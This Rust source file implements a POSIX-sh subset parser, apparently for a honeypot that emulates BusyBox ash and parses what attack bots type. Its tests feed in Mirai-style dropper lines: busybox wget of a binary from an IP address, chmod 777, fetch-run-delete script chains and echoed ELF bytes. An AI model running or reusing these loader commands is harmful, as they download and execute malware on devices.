//! A POSIX-sh subset parser: the syntax bots actually type.
//!
//! Lists (`;` `&` newline), `&&` `||`, pipelines, `!`, redirections (`>` `>>`
//! `<` `2>&1` `>&2` `2>/dev/null`), single and double quotes, backslash
//! escapes, `$VAR` `${VAR}` `$?` `$1`, `$(...)` and backticks, `while`/`until`
//! loops, `for`, `if`/`elif`/`else`, `( ... )` and `{ ...; }` groups, and
//! `NAME=value` assignments. Words are bytes, not strings: attackers send raw
//! binary and a dropper must be reconstructed byte-exact.
//!
//! Hostile input is normal: nesting depth and input length are bounded, and
//! every error is a [`ParseError`] that becomes ash's own message.

/// Deepest nesting of groups, loops and substitutions accepted.
pub const MAX_DEPTH: usize = 32;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WordPart {
    /// Unquoted text (subject to field splitting only when from expansions).
    Lit(Vec<u8>),
    /// Quoted text: no splitting, no globbing.
    Quoted(Vec<u8>),
    /// `$NAME`, `${NAME}`, `$?`, `$1`...; `quoted` when inside double quotes.
    Var { name: String, quoted: bool },
    /// `$(...)` or backticks.
    CmdSub { list: Box<List>, quoted: bool },
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    pub parts: Vec<WordPart>,
}

impl Word {
    /// The word's text if it has no expansions (used for keywords).
    pub fn literal(&self) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        for p in &self.parts {
            match p {
                WordPart::Lit(b) | WordPart::Quoted(b) => out.extend_from_slice(b),
                _ => return None,
            }
        }
        Some(out)
    }

    fn is_unquoted_literal(&self, s: &str) -> bool {
        matches!(self.parts.as_slice(), [WordPart::Lit(b)] if b == s.as_bytes())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirOp {
    /// `>`
    Out,
    /// `>>`
    Append,
    /// `<`
    In,
    /// `>&N`
    DupOut,
    /// `<&N`
    DupIn,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub fd: u32,
    pub op: RedirOp,
    pub target: Word,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    Simple {
        assigns: Vec<(String, Word)>,
        words: Vec<Word>,
        redirects: Vec<Redirect>,
    },
    Compound {
        body: Compound,
        redirects: Vec<Redirect>,
    },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Compound {
    Group(List),
    Subshell(List),
    While {
        cond: List,
        body: List,
        until: bool,
    },
    For {
        var: String,
        items: Option<Vec<Word>>,
        body: List,
    },
    If {
        branches: Vec<(List, List)>,
        otherwise: Option<List>,
    },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pipeline {
    pub negate: bool,
    pub commands: Vec<Command>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Connector {
    And,
    Or,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AndOr {
    pub first: Pipeline,
    pub rest: Vec<(Connector, Pipeline)>,
    /// Ended with `&`.
    pub background: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct List {
    pub items: Vec<AndOr>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// `syntax error: unexpected "X"` (ash's wording).
    Unexpected(String),
    /// Input ended inside a quote, group or loop.
    UnexpectedEof(&'static str),
    TooDeep,
}

impl ParseError {
    /// The message BusyBox ash prints for it (without the `sh: ` prefix).
    pub fn ash_message(&self) -> String {
        match self {
            ParseError::Unexpected(t) => format!("syntax error: unexpected \"{t}\""),
            ParseError::UnexpectedEof(_) => "syntax error: unexpected end of file".into(),
            ParseError::TooDeep => "syntax error: nested too deeply".into(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(Word),
    /// `;` `&` `&&` `||` `|` `(` `)` newline.
    Op(&'static str),
    Redir(u32, RedirOp),
}

/// Parse a command line (or a whole script).
pub fn parse(input: &[u8]) -> Result<List, ParseError> {
    parse_depth(input, 0)
}

fn parse_depth(input: &[u8], depth: usize) -> Result<List, ParseError> {
    if depth > MAX_DEPTH {
        return Err(ParseError::TooDeep);
    }
    let toks = Lexer {
        s: input,
        i: 0,
        depth,
    }
    .tokens()?;
    let mut p = Parser { toks, i: 0, depth };
    let list = p.list(&[])?;
    if let Some(t) = p.peek() {
        return Err(ParseError::Unexpected(tok_text(t)));
    }
    Ok(list)
}

fn tok_text(t: &Tok) -> String {
    match t {
        Tok::Word(w) => String::from_utf8_lossy(&w.literal().unwrap_or_default()).into_owned(),
        Tok::Op(o) => {
            if *o == "\n" {
                "newline".into()
            } else {
                (*o).into()
            }
        }
        Tok::Redir(_, op) => match op {
            RedirOp::Out => ">".into(),
            RedirOp::Append => ">>".into(),
            RedirOp::In => "<".into(),
            RedirOp::DupOut => ">&".into(),
            RedirOp::DupIn => "<&".into(),
        },
    }
}

struct Lexer<'a> {
    s: &'a [u8],
    i: usize,
    depth: usize,
}

impl Lexer<'_> {
    fn tokens(mut self) -> Result<Vec<Tok>, ParseError> {
        let mut out = Vec::new();
        loop {
            // Blanks and comments.
            while let Some(&c) = self.s.get(self.i) {
                if c == b' ' || c == b'\t' || c == b'\r' {
                    self.i += 1;
                } else if c == b'\\' && self.s.get(self.i + 1) == Some(&b'\n') {
                    self.i += 2;
                } else {
                    break;
                }
            }
            let Some(&c) = self.s.get(self.i) else {
                return Ok(out);
            };
            if c == b'#' {
                while self.s.get(self.i).is_some_and(|&c| c != b'\n') {
                    self.i += 1;
                }
                continue;
            }
            let two = self.s.get(self.i..self.i + 2);
            let op: Option<&'static str> = match two {
                Some(b"&&") => Some("&&"),
                Some(b"||") => Some("||"),
                Some(b";;") => Some(";;"),
                _ => match c {
                    b';' => Some(";"),
                    b'&' => Some("&"),
                    b'|' => Some("|"),
                    b'(' => Some("("),
                    b')' => Some(")"),
                    b'\n' => Some("\n"),
                    _ => None,
                },
            };
            if let Some(op) = op {
                self.i += op.len();
                out.push(Tok::Op(op));
                continue;
            }
            if c == b'>' || c == b'<' {
                out.push(self.redir(None));
                continue;
            }
            // `2>` `2>>` `2>&1`: a number directly before a redirection.
            if c.is_ascii_digit() {
                let start = self.i;
                let mut j = self.i;
                while self.s.get(j).is_some_and(|c| c.is_ascii_digit()) {
                    j += 1;
                }
                if matches!(self.s.get(j), Some(b'>') | Some(b'<')) && j - start <= 2 {
                    let fd = std::str::from_utf8(&self.s[start..j])
                        .ok()
                        .and_then(|t| t.parse().ok())
                        .unwrap_or(1);
                    self.i = j;
                    out.push(self.redir(Some(fd)));
                    continue;
                }
            }
            out.push(Tok::Word(self.word()?));
        }
    }

    fn redir(&mut self, fd: Option<u32>) -> Tok {
        let c = self.s[self.i];
        self.i += 1;
        let next = self.s.get(self.i).copied();
        let (op, default_fd) = match (c, next) {
            (b'>', Some(b'>')) => {
                self.i += 1;
                (RedirOp::Append, 1)
            }
            (b'>', Some(b'&')) => {
                self.i += 1;
                (RedirOp::DupOut, 1)
            }
            (b'>', Some(b'|')) => {
                self.i += 1;
                (RedirOp::Out, 1)
            }
            (b'>', _) => (RedirOp::Out, 1),
            (b'<', Some(b'&')) => {
                self.i += 1;
                (RedirOp::DupIn, 0)
            }
            _ => (RedirOp::In, 0),
        };
        Tok::Redir(fd.unwrap_or(default_fd), op)
    }

    fn word(&mut self) -> Result<Word, ParseError> {
        let mut parts: Vec<WordPart> = Vec::new();
        let mut lit = Vec::new();
        while let Some(&c) = self.s.get(self.i) {
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>' => {
                    break
                }
                b'\\' => {
                    self.i += 1;
                    match self.s.get(self.i) {
                        Some(b'\n') => self.i += 1,
                        Some(&e) => {
                            flush(&mut parts, &mut lit);
                            parts.push(WordPart::Quoted(vec![e]));
                            self.i += 1;
                        }
                        None => lit.push(b'\\'),
                    }
                }
                b'\'' => {
                    self.i += 1;
                    let start = self.i;
                    while self.s.get(self.i).is_some_and(|&c| c != b'\'') {
                        self.i += 1;
                    }
                    if self.i >= self.s.len() {
                        return Err(ParseError::UnexpectedEof("'"));
                    }
                    flush(&mut parts, &mut lit);
                    parts.push(WordPart::Quoted(self.s[start..self.i].to_vec()));
                    self.i += 1;
                }
                b'"' => {
                    self.i += 1;
                    flush(&mut parts, &mut lit);
                    self.double_quoted(&mut parts)?;
                }
                b'$' => {
                    flush(&mut parts, &mut lit);
                    if !self.dollar(&mut parts, false)? {
                        lit.push(b'$');
                    }
                }
                b'`' => {
                    flush(&mut parts, &mut lit);
                    let list = self.backtick()?;
                    parts.push(WordPart::CmdSub {
                        list: Box::new(list),
                        quoted: false,
                    });
                }
                _ => {
                    lit.push(c);
                    self.i += 1;
                }
            }
        }
        flush(&mut parts, &mut lit);
        // `""` is a word: an empty argument.
        if parts.is_empty() {
            parts.push(WordPart::Quoted(Vec::new()));
        }
        Ok(Word { parts })
    }

    fn double_quoted(&mut self, parts: &mut Vec<WordPart>) -> Result<(), ParseError> {
        let mut text = Vec::new();
        parts.push(WordPart::Quoted(Vec::new()));
        loop {
            let Some(&c) = self.s.get(self.i) else {
                return Err(ParseError::UnexpectedEof("\""));
            };
            match c {
                b'"' => {
                    self.i += 1;
                    break;
                }
                b'\\' => {
                    let next = self.s.get(self.i + 1).copied();
                    match next {
                        Some(b'$' | b'`' | b'"' | b'\\') => {
                            text.push(next.unwrap_or(b'\\'));
                            self.i += 2;
                        }
                        Some(b'\n') => self.i += 2,
                        _ => {
                            text.push(b'\\');
                            self.i += 1;
                        }
                    }
                }
                b'$' => {
                    let mark = parts.len();
                    if !text.is_empty() {
                        parts.push(WordPart::Quoted(std::mem::take(&mut text)));
                    }
                    if !self.dollar(parts, true)? {
                        if parts.len() > mark {
                            if let Some(WordPart::Quoted(t)) = parts.pop() {
                                text = t;
                            }
                        }
                        text.push(b'$');
                    }
                }
                b'`' => {
                    if !text.is_empty() {
                        parts.push(WordPart::Quoted(std::mem::take(&mut text)));
                    }
                    let list = self.backtick()?;
                    parts.push(WordPart::CmdSub {
                        list: Box::new(list),
                        quoted: true,
                    });
                }
                _ => {
                    text.push(c);
                    self.i += 1;
                }
            }
        }
        if !text.is_empty() {
            parts.push(WordPart::Quoted(text));
        }
        Ok(())
    }

    /// At a `$`: push the expansion and return true, or return false (and
    /// consume only the `$`) when it is a literal dollar.
    fn dollar(&mut self, parts: &mut Vec<WordPart>, quoted: bool) -> Result<bool, ParseError> {
        self.i += 1;
        let Some(&c) = self.s.get(self.i) else {
            return Ok(false);
        };
        match c {
            b'(' => {
                if self.s.get(self.i + 1) == Some(&b'(') {
                    // $(( arithmetic )): keep as literal text, rarely used by bots.
                    return Ok(false);
                }
                self.i += 1;
                let start = self.i;
                let end = self.matching_paren()?;
                let list = parse_depth(&self.s[start..end], self.depth + 1)?;
                self.i = end + 1;
                parts.push(WordPart::CmdSub {
                    list: Box::new(list),
                    quoted,
                });
                Ok(true)
            }
            b'{' => {
                let start = self.i + 1;
                let Some(len) = self.s[start..].iter().position(|&c| c == b'}') else {
                    return Err(ParseError::UnexpectedEof("}"));
                };
                let name = String::from_utf8_lossy(&self.s[start..start + len]).into_owned();
                // ${VAR:-default} and friends: keep the name, drop the operator.
                let name = name
                    .split([':', '-', '=', '+', '?', '#', '%'])
                    .next()
                    .unwrap_or_default()
                    .to_string();
                self.i = start + len + 1;
                parts.push(WordPart::Var { name, quoted });
                Ok(true)
            }
            b'?' | b'$' | b'#' | b'!' | b'@' | b'*' | b'-' | b'0'..=b'9' => {
                self.i += 1;
                parts.push(WordPart::Var {
                    name: (c as char).to_string(),
                    quoted,
                });
                Ok(true)
            }
            c if c == b'_' || c.is_ascii_alphabetic() => {
                let start = self.i;
                while self
                    .s
                    .get(self.i)
                    .is_some_and(|&c| c == b'_' || c.is_ascii_alphanumeric())
                {
                    self.i += 1;
                }
                let name = String::from_utf8_lossy(&self.s[start..self.i]).into_owned();
                parts.push(WordPart::Var { name, quoted });
                Ok(true)
            }
            _ => Ok(false),
        }
    }

    /// Index of the `)` closing the `$(` just consumed, quote-aware.
    fn matching_paren(&self) -> Result<usize, ParseError> {
        let mut depth = 1usize;
        let mut j = self.i;
        while let Some(&c) = self.s.get(j) {
            match c {
                b'\\' => j += 1,
                b'\'' => {
                    j += 1;
                    while self.s.get(j).is_some_and(|&c| c != b'\'') {
                        j += 1;
                    }
                }
                b'"' => {
                    j += 1;
                    while let Some(&c) = self.s.get(j) {
                        if c == b'\\' {
                            j += 1;
                        } else if c == b'"' {
                            break;
                        }
                        j += 1;
                    }
                }
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(j);
                    }
                }
                _ => {}
            }
            j += 1;
        }
        Err(ParseError::UnexpectedEof(")"))
    }

    fn backtick(&mut self) -> Result<List, ParseError> {
        self.i += 1;
        let mut inner = Vec::new();
        loop {
            match self.s.get(self.i) {
                None => return Err(ParseError::UnexpectedEof("`")),
                Some(b'`') => {
                    self.i += 1;
                    break;
                }
                Some(b'\\') if matches!(self.s.get(self.i + 1), Some(b'`' | b'\\' | b'$')) => {
                    inner.push(self.s[self.i + 1]);
                    self.i += 2;
                }
                Some(&c) => {
                    inner.push(c);
                    self.i += 1;
                }
            }
        }
        parse_depth(&inner, self.depth + 1)
    }
}

fn flush(parts: &mut Vec<WordPart>, lit: &mut Vec<u8>) {
    if !lit.is_empty() {
        parts.push(WordPart::Lit(std::mem::take(lit)));
    }
}

struct Parser {
    toks: Vec<Tok>,
    i: usize,
    depth: usize,
}

const RESERVED: &[&str] = &["do", "done", "then", "fi", "elif", "else", "}", "esac"];

impl Parser {
    fn peek(&self) -> Option<&Tok> {
        self.toks.get(self.i)
    }

    fn peek_keyword(&self, kw: &str) -> bool {
        matches!(self.peek(), Some(Tok::Word(w)) if w.is_unquoted_literal(kw))
    }

    fn expect_keyword(&mut self, kw: &'static str) -> Result<(), ParseError> {
        self.skip_newlines();
        if self.peek_keyword(kw) {
            self.i += 1;
            Ok(())
        } else {
            match self.peek() {
                Some(t) => Err(ParseError::Unexpected(tok_text(t))),
                None => Err(ParseError::UnexpectedEof(kw)),
            }
        }
    }

    fn skip_newlines(&mut self) {
        while matches!(self.peek(), Some(Tok::Op("\n"))) {
            self.i += 1;
        }
    }

    /// A list, stopping before any of `stop` keywords or `)`.
    fn list(&mut self, stop: &[&str]) -> Result<List, ParseError> {
        let mut list = List::default();
        loop {
            self.skip_newlines();
            match self.peek() {
                None => break,
                Some(Tok::Op(")")) => break,
                Some(Tok::Op(";")) if list.items.is_empty() => {
                    return Err(ParseError::Unexpected(";".into()))
                }
                Some(Tok::Word(w)) if stop.iter().any(|k| w.is_unquoted_literal(k)) => break,
                _ => {}
            }
            let mut item = self.and_or()?;
            match self.peek() {
                Some(Tok::Op(";")) | Some(Tok::Op("\n")) => self.i += 1,
                Some(Tok::Op("&")) => {
                    item.background = true;
                    self.i += 1;
                }
                _ => {}
            }
            list.items.push(item);
            if matches!(self.peek(), Some(Tok::Op(";;"))) {
                return Err(ParseError::Unexpected(";;".into()));
            }
        }
        Ok(list)
    }

    fn and_or(&mut self) -> Result<AndOr, ParseError> {
        let first = self.pipeline()?;
        let mut rest = Vec::new();
        loop {
            let conn = match self.peek() {
                Some(Tok::Op("&&")) => Connector::And,
                Some(Tok::Op("||")) => Connector::Or,
                _ => break,
            };
            self.i += 1;
            self.skip_newlines();
            rest.push((conn, self.pipeline()?));
        }
        Ok(AndOr {
            first,
            rest,
            background: false,
        })
    }

    fn pipeline(&mut self) -> Result<Pipeline, ParseError> {
        let mut negate = false;
        if self.peek_keyword("!") {
            negate = true;
            self.i += 1;
        }
        let mut commands = vec![self.command()?];
        while matches!(self.peek(), Some(Tok::Op("|"))) {
            self.i += 1;
            self.skip_newlines();
            commands.push(self.command()?);
        }
        Ok(Pipeline { negate, commands })
    }

    fn nested<T>(
        &mut self,
        f: impl FnOnce(&mut Self) -> Result<T, ParseError>,
    ) -> Result<T, ParseError> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(ParseError::TooDeep);
        }
        let r = f(self);
        self.depth -= 1;
        r
    }

    fn command(&mut self) -> Result<Command, ParseError> {
        let body = match self.peek() {
            Some(Tok::Op("(")) => {
                self.i += 1;
                let list = self.nested(|p| p.list(&[]))?;
                match self.peek() {
                    Some(Tok::Op(")")) => self.i += 1,
                    Some(t) => return Err(ParseError::Unexpected(tok_text(t))),
                    None => return Err(ParseError::UnexpectedEof(")")),
                }
                Some(Compound::Subshell(list))
            }
            Some(Tok::Word(w)) if w.is_unquoted_literal("{") => {
                self.i += 1;
                let list = self.nested(|p| p.list(&["}"]))?;
                self.expect_keyword("}")?;
                Some(Compound::Group(list))
            }
            Some(Tok::Word(w))
                if w.is_unquoted_literal("while") || w.is_unquoted_literal("until") =>
            {
                let until = w.is_unquoted_literal("until");
                self.i += 1;
                let (cond, body) = self.nested(|p| {
                    let cond = p.list(&["do"])?;
                    p.expect_keyword("do")?;
                    let body = p.list(&["done"])?;
                    p.expect_keyword("done")?;
                    Ok((cond, body))
                })?;
                Some(Compound::While { cond, body, until })
            }
            Some(Tok::Word(w)) if w.is_unquoted_literal("for") => {
                self.i += 1;
                let var = match self.peek() {
                    Some(Tok::Word(w)) => {
                        String::from_utf8_lossy(&w.literal().unwrap_or_default()).into_owned()
                    }
                    Some(t) => return Err(ParseError::Unexpected(tok_text(t))),
                    None => return Err(ParseError::UnexpectedEof("for")),
                };
                self.i += 1;
                let mut items = None;
                self.skip_newlines();
                if self.peek_keyword("in") {
                    self.i += 1;
                    let mut v = Vec::new();
                    while let Some(Tok::Word(w)) = self.peek() {
                        if w.is_unquoted_literal("do") {
                            break;
                        }
                        v.push(w.clone());
                        self.i += 1;
                    }
                    items = Some(v);
                }
                if matches!(self.peek(), Some(Tok::Op(";"))) {
                    self.i += 1;
                }
                let body = self.nested(|p| {
                    p.expect_keyword("do")?;
                    let body = p.list(&["done"])?;
                    p.expect_keyword("done")?;
                    Ok(body)
                })?;
                Some(Compound::For { var, items, body })
            }
            Some(Tok::Word(w)) if w.is_unquoted_literal("if") => {
                self.i += 1;
                Some(self.nested(|p| {
                    let mut branches = Vec::new();
                    let mut otherwise = None;
                    loop {
                        let cond = p.list(&["then"])?;
                        p.expect_keyword("then")?;
                        let body = p.list(&["elif", "else", "fi"])?;
                        branches.push((cond, body));
                        p.skip_newlines();
                        if p.peek_keyword("elif") {
                            p.i += 1;
                            continue;
                        }
                        if p.peek_keyword("else") {
                            p.i += 1;
                            otherwise = Some(p.list(&["fi"])?);
                        }
                        p.expect_keyword("fi")?;
                        break;
                    }
                    Ok(Compound::If {
                        branches,
                        otherwise,
                    })
                })?)
            }
            Some(Tok::Word(w)) if RESERVED.iter().any(|k| w.is_unquoted_literal(k)) => {
                return Err(ParseError::Unexpected(tok_text(&Tok::Word(w.clone()))));
            }
            _ => None,
        };
        if let Some(body) = body {
            let mut redirects = Vec::new();
            while let Some(Tok::Redir(..)) = self.peek() {
                redirects.push(self.redirect()?);
            }
            return Ok(Command::Compound { body, redirects });
        }
        let mut assigns = Vec::new();
        let mut words = Vec::new();
        let mut redirects = Vec::new();
        loop {
            match self.peek() {
                Some(Tok::Redir(..)) => redirects.push(self.redirect()?),
                Some(Tok::Word(w)) => {
                    if words.is_empty() {
                        if let Some((name, value)) = assignment(w) {
                            assigns.push((name, value));
                            self.i += 1;
                            continue;
                        }
                    }
                    words.push(w.clone());
                    self.i += 1;
                }
                _ => break,
            }
        }
        if words.is_empty() && assigns.is_empty() && redirects.is_empty() {
            return match self.peek() {
                Some(t) => Err(ParseError::Unexpected(tok_text(t))),
                None => Err(ParseError::UnexpectedEof("command")),
            };
        }
        Ok(Command::Simple {
            assigns,
            words,
            redirects,
        })
    }

    fn redirect(&mut self) -> Result<Redirect, ParseError> {
        let Some(Tok::Redir(fd, op)) = self.peek().cloned() else {
            return Err(ParseError::UnexpectedEof("redirection"));
        };
        self.i += 1;
        match self.peek() {
            Some(Tok::Word(w)) => {
                let target = w.clone();
                self.i += 1;
                Ok(Redirect { fd, op, target })
            }
            Some(t) => Err(ParseError::Unexpected(tok_text(t))),
            None => Err(ParseError::Unexpected("newline".into())),
        }
    }
}

/// `NAME=value` as the first words of a simple command.
fn assignment(w: &Word) -> Option<(String, Word)> {
    let WordPart::Lit(first) = w.parts.first()? else {
        return None;
    };
    let eq = first.iter().position(|&c| c == b'=')?;
    let name = &first[..eq];
    if name.is_empty()
        || name[0].is_ascii_digit()
        || !name.iter().all(|&c| c == b'_' || c.is_ascii_alphanumeric())
    {
        return None;
    }
    let mut parts = Vec::new();
    if first.len() > eq + 1 {
        parts.push(WordPart::Lit(first[eq + 1..].to_vec()));
    }
    parts.extend(w.parts[1..].iter().cloned());
    Some((String::from_utf8_lossy(name).into_owned(), Word { parts }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn simple_words(list: &List) -> Vec<Vec<Vec<u8>>> {
        let mut out = Vec::new();
        for item in &list.items {
            for p in std::iter::once(&item.first).chain(item.rest.iter().map(|(_, p)| p)) {
                for c in &p.commands {
                    if let Command::Simple { words, .. } = c {
                        out.push(
                            words
                                .iter()
                                .map(|w| w.literal().unwrap_or_default())
                                .collect(),
                        );
                    }
                }
            }
        }
        out
    }

    #[test]
    fn mirai_loader_lines() {
        let l = parse(b"/bin/busybox wget http://1.2.3.4:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper").unwrap();
        assert_eq!(l.items.len(), 2);
        let w = simple_words(&l);
        assert_eq!(w[0][0], b"/bin/busybox");
        assert_eq!(w[0][3], b"-O");
        assert_eq!(w[0][4], b"-");
        let l = parse(b"echo -ne '\\x7f\\x45\\x4c\\x46' >> upnp").unwrap();
        match &l.items[0].first.commands[0] {
            Command::Simple {
                words, redirects, ..
            } => {
                assert_eq!(words[2].literal().unwrap(), b"\\x7f\\x45\\x4c\\x46");
                assert_eq!(redirects[0].op, RedirOp::Append);
            }
            other => panic!("{other:?}"),
        }
        parse(b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://x/y.sh; chmod 777 y.sh; sh y.sh; rm -rf y.sh").unwrap();
        parse(b"while read i; do echo $i; done < .s").unwrap();
        parse(b"dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s").unwrap();
        parse(b"for i in `cat /proc/mounts | cut -d' ' -f2`; do echo $i; done").unwrap();
        parse(b"if [ -f /bin/busybox ]; then echo yes; elif true; then :; else echo no; fi")
            .unwrap();
        parse(b"(cd /tmp && ls) 2>&1 >/dev/null &").unwrap();
        parse(b"A=1 B=\"x y\" env; echo ${A} $(echo \"$(uname -a)\")").unwrap();
    }

    #[test]
    fn redirections() {
        let l = parse(b"cat x 2>/dev/null >>y 2>&1 <z").unwrap();
        let Command::Simple { redirects, .. } = &l.items[0].first.commands[0] else {
            panic!()
        };
        let ops: Vec<_> = redirects.iter().map(|r| (r.fd, r.op)).collect();
        assert_eq!(
            ops,
            vec![
                (2, RedirOp::Out),
                (1, RedirOp::Append),
                (2, RedirOp::DupOut),
                (0, RedirOp::In)
            ]
        );
    }

    #[test]
    fn errors_are_ash_shaped() {
        assert_eq!(
            parse(b"echo 'abc").unwrap_err().ash_message(),
            "syntax error: unexpected end of file"
        );
        assert_eq!(
            parse(b"; ls").unwrap_err().ash_message(),
            "syntax error: unexpected \";\""
        );
        assert_eq!(
            parse(b"done").unwrap_err().ash_message(),
            "syntax error: unexpected \"done\""
        );
        assert!(parse(b"ls |").is_err());
        let deep = "$(".repeat(100) + &")".repeat(100);
        assert_eq!(parse(deep.as_bytes()), Err(ParseError::TooDeep));
        let deep = "(".repeat(100) + &")".repeat(100);
        assert_eq!(parse(deep.as_bytes()), Err(ParseError::TooDeep));
    }

    #[test]
    fn quotes_and_escapes() {
        let l = parse(b"echo \"a \\\"b\\\" $X\" 'c\\d' e\\ f").unwrap();
        let Command::Simple { words, .. } = &l.items[0].first.commands[0] else {
            panic!()
        };
        assert_eq!(words.len(), 4);
        assert_eq!(words[2].literal().unwrap(), b"c\\d");
        assert_eq!(words[3].literal().unwrap(), b"e f");
        assert!(
            matches!(&words[1].parts[..], [WordPart::Quoted(_), WordPart::Quoted(a), WordPart::Var { quoted: true, .. }] if a == b"a \"b\" ")
        );
    }
}
